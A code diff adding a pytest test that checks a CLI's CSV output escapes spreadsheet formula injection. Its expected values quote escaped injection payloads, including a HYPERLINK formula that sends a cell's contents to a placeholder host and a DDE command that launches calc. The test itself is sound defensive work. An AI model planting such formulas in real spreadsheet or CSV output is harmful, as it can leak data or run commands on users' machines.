@@ -217,3 +217,26 @@ def peak_rss_mb(reader: str, paths: list[Path]) -> int:
 @pytest.mark.parametrize("reader", sorted(READERS))
 def test_reading_the_bombs_stays_under_the_memory_limit(reader: str) -> None:
     assert peak_rss_mb(reader, [FOLDER / name for name in BOMBS]) < RSS_LIMIT_MB
+
+
+def test_score_csv_escapes_text_that_a_spreadsheet_would_run_as_a_formula() -> None:
+    args = [
+        "score",
+        str(FOLDER / "formula-cells.csv"),
+        "--method",
+        str(INGEST / "coop" / "method.xlsx"),
+    ]
+    result = CliRunner().invoke(main, args)
+    assert result.exit_code == 0, result.stderr
+    import csv
+    import io
+
+    rows = csv.DictReader(io.StringIO(result.stdout, newline=""))
+    ids = [row["instance_id"] for row in rows][:5]  # pandas leaves a carriage return unquoted
+    assert ids == [
+        '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+        "'@SUM(1+1)",
+        "'\tTab start",
+    ]
